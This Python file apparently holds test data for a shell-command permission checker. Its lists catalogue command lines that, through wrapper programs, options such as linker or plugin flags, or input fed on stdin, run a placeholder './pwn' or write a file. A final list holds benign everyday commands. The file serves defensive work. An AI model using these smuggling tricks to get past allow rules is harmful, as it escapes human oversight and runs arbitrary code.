"""Commands of programs that one allows with `*` without thinking of what their arguments or their input can start.

Each would run `./pwn`, or write where it says; a rule for its first word with `*` must not cover it.
"""

from __future__ import annotations

# Programs that run the command in their arguments.
WRAPPING = r"""
ldd ./pwn
ssh-agent ./pwn
sshpass -p x ./pwn
systemd-cat ./pwn
systemd-inhibit --what=idle ./pwn
choom -n 0 ./pwn
ifne ./pwn
pee ./pwn
zrun ./pwn
start-stop-daemon -S -x ./pwn
dtach -n x ./pwn
abduco -n x ./pwn
logsave x ./pwn
lckdo a ./pwn
runcon x ./pwn
sg users ./pwn
wine ./pwn
direnv exec . ./pwn
tmux new -d ./pwn
screen -dm ./pwn
byobu ./pwn
run-parts ./evil
xargs sudo X=1 ./pwn
"""

# Options and words by which programs start another one, or write a file.
STARTING = r"""
sftp -b evil host
ssh-keygen -D ./pwn.so
ssh-keygen -f pwned
ssh-add -s ./pwn.so
sshfs -o ssh_command=./pwn host: x
curl -w '%output{pwned}x' http://x
curl --write-out '%output{pwned}x' http://x
curl --engine ./pwn.so http://x
wget --hsts-file=pwned http://x
cargo build --manifest-path evil/Cargo.toml
cargo rustc -- --codegen linker=./pwn
cargo install --path evil
rustc -C linker=./pwn a.rs
rustc -Clinker=./pwn a.rs
rustc -o pwned a.rs
rustdoc --test --test-runtool ./pwn a.rs
gcc -Wl,-plugin,./pwn.so a.c
gcc -Xlinker -plugin a.c
clang --ld-path=./pwn a.c
clang -fpass-plugin=./pwn.so a.c
clang --config=evil a.c
gcc --gcc-toolchain=evil a.c
npm install ./evil
npm i file:evil
npm add git+ssh://evil
npm install https://evil/x.tgz
npm init evil
npm create evil
npm link ./evil
npm c set script-shell ./pwn
npm pkg set scripts.test=./pwn
yarn create evil
pnpm add link:evil
bun ./evil.ts
bun evil.ts
bun run evil.mjs
pip install ./evil
pip install evil.whl
pip --python ./pwn list
pip config set global.x y
pip install --prefix=x y
mypy @evil
mypy --html-report pwned a.py
flake8 --config evil a.py
flake8 --append-config=evil a.py
flake8 --output-file pwned
eslint -c evil.js .
eslint --config evil.js .
eslint -f ./evil.js .
eslint -o pwned .
ruff check @evil
pre-commit run -c evil.yaml
pre-commit try-repo evil
just -f evil
just CC=./pwn build
just --working-directory evil
rake -f evil
rake -e 'system("./pwn")'
gradle -I evil
gradle --init-script evil
gradle -Dorg.gradle.java.home=evil
mvn exec:exec
mvn -f evil test
mvn -Dexec.executable=./pwn exec:exec
ninja -f evil
ninja -C evil
ant -f evil
ant -logger evil
sqlite3 a.db "select edit('x','./pwn')"
sqlite3 a.db "select load_extension('./pwn')"
sqlite3 a.db "SELECT writefile('pwned','x')"
sqlite3 a.db "attach 'pwned' as x; create table x.t(a)"
sqlite3 a.db "vacuum into 'pwned'"
mysql --defaults-file=evil
mysql --defaults-extra-file=evil
lldb -o 'platform shell ./pwn'
lldb --one-line 'platform shell ./pwn'
vimdiff -c '!./pwn' a b
rvim '+!./pwn' a
emacsclient -e '(shell-command "./pwn")'
emacsclient -a ./pwn x
openssl engine -t -pre SO_PATH:./pwn.so dynamic
gpg --photo-viewer ./pwn x
gpg -o pwned -d x
exiftool -if 'system("./pwn")' a.jpg
exiftool '-comment<${filename;system("./pwn")}' a.jpg
exiftool -config evil a.jpg
gs -sOutputFile='%pipe%./pwn' a.ps
gs -dNOSAFER a.ps
gnuplot -e 'system("./pwn")'
expect -c 'spawn ./pwn'
m4 evil
rpm -E '%(./pwn)'
rpm --pipe ./pwn -q x
yq -i .a a.yml
yq --enable-system-operator 'system("./pwn")' a.yml
iconv -o pwned a.txt
sdiff -o pwned a.txt b.txt
bsdtar cf x --use-compress-program ./pwn a.txt
aria2c --on-download-complete=./pwn http://x
ip netns exec x ./pwn
ip -batch evil
systemctl --user link ./evil.service
nix run ./evil
nix-shell --run ./pwn
poetry shell
docker run -v /:/x alpine ./pwn
docker exec x ./pwn
docker -H tcp://evil ps
podman run alpine ./pwn
kubectl exec x -- ./pwn
kubectl --kubeconfig=evil get pods
gh alias set z '!./pwn'
gh extension install ./evil
gh repo clone x -- --upload-pack=./pwn
glab alias set z '!./pwn'
crontab evil
at -f evil now
"""

# Programs that do what they read from their standard input, or get arguments from it.
FED = r"""
echo '!./pwn' | ed
echo '!./pwn' | dc
echo ':!./pwn' | ex
echo ':!./pwn' | vim -es
echo '.shell ./pwn' | sqlite3
echo '.shell ./pwn' | sqlite3 a.db
echo '\! ./pwn' | psql
echo 'system ./pwn' | mysql
echo 'shell ./pwn' | gdb
echo '!./pwn' | sftp host
echo '!./pwn' | ftp
echo 'syscmd(./pwn)' | m4
echo 'exec ./pwn' | tclsh
echo 'system "./pwn"' | gnuplot
echo './pwn' | parallel
echo './pwn' | unshare
echo './pwn' | nsenter
echo './pwn' | script
echo './pwn' | fakeroot
echo './pwn' | su
echo './pwn' | sudo -s
echo './pwn' | sudo -i
echo './pwn' | chroot /
echo './pwn' | linux64
echo './pwn' | setarch x86_64
echo './pwn' | at now
echo './pwn' | batch
echo '* * * * * ./pwn' | crontab
true && echo './pwn' | fakeroot
echo './pwn' | timeout 5 fakeroot
cat a.txt | sort | sqlite3 a.db
echo '-c alias.z=!./pwn z' | xargs git
echo '-c alias.z=!./pwn z' | xargs -n 4 git
echo 1e./pwn | xargs sed
echo '-exec ./pwn ;' | xargs find .
echo '--checkpoint=1 --checkpoint-action=exec=./pwn' | xargs tar cf x a.txt
echo ./pwn | xargs env
echo ./pwn | sudo X=1
echo ./pwn | xargs sudo X=1
echo ./pwn | xargs timeout 5
echo 'x=1' | xargs export
echo '-o pwned' | xargs sort a.txt
echo '--output=pwned' | xargs git log
echo ./pwn | parallel env
"""

# What the same programs do all day.
USUAL = r"""
docker ps
docker logs x
kubectl get pods
gh pr view 5
gh issue list
npm ci
npm run lint
npm test src/a.test.ts
npm install lodash@4
yarn add @types/node
pip list
pip install -r requirements.txt
pip install --pre x
mvn -DskipTests -q test
gradle test --tests Foo
just build
rake test
ninja -j4
cargo test -p mine --profile ci
rustc --version
gcc -Wall -O2 -c a.c
eslint --fix src
flake8 src
mypy -p mine
sqlite3 -csv a.db 'select a, b from t'
psql -c 'select 1'
gpg --verify a.sig
rpm -qa
yq .a a.yml
iconv -f latin1 a.txt
ip -br addr
poetry lock
openssl x509 -noout -in a.pem
curl -s -w '%{http_code}' http://x
echo a.txt | xargs cat b.txt
echo a.txt | xargs -n 1 wc -l
cat a.txt | sort | uniq -c
cat a.txt | jq .a
echo x | grep x
git log | head -3
crontab -l
"""
